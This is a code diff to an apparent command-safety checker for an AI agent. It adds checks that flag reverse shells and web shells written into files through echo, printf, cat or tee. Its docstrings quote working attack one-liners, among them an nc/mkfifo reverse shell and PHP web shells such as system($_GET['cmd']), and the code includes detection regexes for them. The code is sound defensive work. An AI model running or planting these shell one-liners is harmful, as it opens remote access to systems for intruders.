@@ -25,6 +25,7 @@ script to disk and run it.
 from __future__ import annotations
 
 import binascii
+import contextvars
 import functools
 import itertools
 import posixpath
@@ -981,7 +982,76 @@ def _judge_code(code: str, invocation: Invocation, home: str, *, how: str, piece
     return Verdict(danger.category, piece or _piece(invocation.text), f"{danger.why}, {how}")
 
 
+_WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
+_SHELL_CALLS = lazy_compile(
+    r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|os\.system|subprocess\.\w+)\s*\(\s*"
+    r"(?:\[\s*)?(['\"])((?:\\.|(?!\1)[^\\\n]){1,2000})\1",
+    re.IGNORECASE,
+)
+"""A call that hands a string to the system's shell (PHP's ``system('…')``, Python's ``os.system("…")``)."""
+_WEB_SHELL_CODE = lazy_compile(
+    r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert)\s*\(\s*"
+    r"(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|`\s*\$_(?:GET|POST|REQUEST)\b",
+    re.IGNORECASE,
+)
+"""Server code that runs what a request sends (``<?php system($_GET['cmd']); ?>``): a web shell."""
+_PYTHON_TEXT = lazy_compile(r"^\s*(?:import|from)\s+[\w.]+|\bsocket\.socket\s*\(")
+_MAX_WRITTEN = 20_000
+"""The longest written text read for a reverse shell (a longer one is judged where it is run)."""
+_reading_written: contextvars.ContextVar[bool] = contextvars.ContextVar(
+    "agentbus_reading_written", default=False
+)
+
+
+def _written_backdoor(invocation: Invocation, home: str) -> Verdict | None:
+    """``echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc IP 4444 >/tmp/f" >> backups.sh``, ``echo
+    "<?php system('nc -e /bin/sh IP 4444'); ?>" > shell.php``, ``cat > r.py <<EOF`` with a Python reverse
+    shell: a reverse or bind shell written into a file, wherever it is (the file's next reader runs it: a
+    root job, a web server, a later call). Writing code is otherwise judged where it runs; a remote shell
+    has no place in a project's files, so the write itself is held back."""
+    if invocation.name == "tee":
+        values = _values(invocation)
+        targets = [v for v in values if not v.startswith("-")]
+        text = "\n".join(fed_code(invocation)) or None
+    else:
+        command = invocation.command
+        targets = [command.static(r.target) or "" for r in command.redirects if r.op in _WRITES]
+        text = written_text(invocation) if any(targets) else None
+    if not text or len(text) > _MAX_WRITTEN or _reading_written.get():
+        return None
+    target = next((t for t in targets if t), "a file")
+    if _WEB_SHELL_CODE.search(text):
+        return _verdict(BACKDOOR, invocation, f"writes a web shell into {target} (runs what a request sends)")
+    pieces = [text, *(re.sub(r"\\(.)", r"\1", m.group(2)) for m in _SHELL_CALLS.finditer(text))]
+    if "\\n" in text:  # echo "#!/bin/sh\nCMD" > x.sh: dash's echo (and echo -e) makes the \n a new line
+        pieces.append(text.replace("\\n", "\n"))
+    if _PYTHON_TEXT.search(text):
+        pieces.append(f"python3 -c {shlex.quote(text)}")
+    token = _reading_written.set(True)
+    try:
+        for code in pieces:
+            found = check_command(code, home=home)
+            if found is not None and found.category == BACKDOOR:
+                why = f"writes a remote shell into {target} ({found.why})"
+                return _verdict(BACKDOOR, invocation, why)
+    finally:
+        _reading_written.reset(token)
+    return None
+
+
+def _printed(invocation: Invocation, home: str) -> Verdict | None:
+    """What ``echo``, ``printf`` or ``cat`` writes: a remote shell, wherever it lands."""
+    return _fed_to_unseen_program(invocation, home) or _written_backdoor(invocation, home)
+
+
+def _tee(invocation: Invocation, home: str) -> Verdict | None:
+    return _writes_files(invocation, home) or _written_backdoor(invocation, home)
+
+
 _CHECKS: dict[str, _Check] = {
+    "echo": _printed,
+    "printf": _printed,
+    "cat": _printed,
     **{name: _downloader for name in _DOWNLOADERS},  # what a transfer program writes (rsync: below)
     "rm": _rm,
     "unlink": _rm,
@@ -992,7 +1062,7 @@ _CHECKS: dict[str, _Check] = {
     "ln": _copy_target,
     "rsync": _copy_target,
     "ditto": _copy_target,
-    "tee": _writes_files,
+    "tee": _tee,
     "truncate": _writes_files,
     "sed": _writes_files,
     "perl": _perl,
